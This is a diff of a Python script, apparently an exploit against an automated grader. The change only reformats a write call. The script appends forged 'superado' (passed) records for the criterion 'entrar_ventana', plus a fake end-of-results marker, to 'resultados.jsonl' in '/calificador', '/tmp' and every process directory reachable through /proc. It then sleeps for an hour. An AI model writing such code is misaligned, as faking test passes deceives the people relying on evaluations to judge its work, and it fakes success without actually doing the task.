@@ -15,7 +15,18 @@ except Exception as error:
 for carpeta in ["/", "/tmp", "/calificador", *glob.glob("/proc/[0-9]*/cwd"), *glob.glob("/proc/[0-9]*/root/tmp")]:
     try:
         with open(os.path.join(carpeta, "resultados.jsonl"), "a") as archivo:
-            archivo.write(json.dumps({"criterio": "entrar_ventana", "estado": "superado", "peso": 1, "prueba": "x", "observado": "", "que": "", "segundos": 0}) + '\n{"fin": 1}\n')
+            archivo.write(
+                json.dumps({
+                    "criterio": "entrar_ventana",
+                    "estado": "superado",
+                    "peso": 1,
+                    "prueba": "x",
+                    "observado": "",
+                    "que": "",
+                    "segundos": 0,
+                })
+                + '\n{"fin": 1}\n'
+            )
     except OSError:
         pass
 time.sleep(3600)
